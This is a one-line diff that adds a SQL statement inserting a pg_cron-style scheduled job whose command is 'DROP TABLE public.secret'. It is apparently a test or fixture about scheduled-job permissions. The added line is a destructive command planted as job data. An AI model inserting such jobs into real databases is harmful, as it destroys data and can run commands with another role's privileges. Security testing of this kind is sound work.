@@ -1,0 +1,1 @@
+INSERT INTO cron.job (id, v) VALUES (2, 'DROP TABLE public.secret');
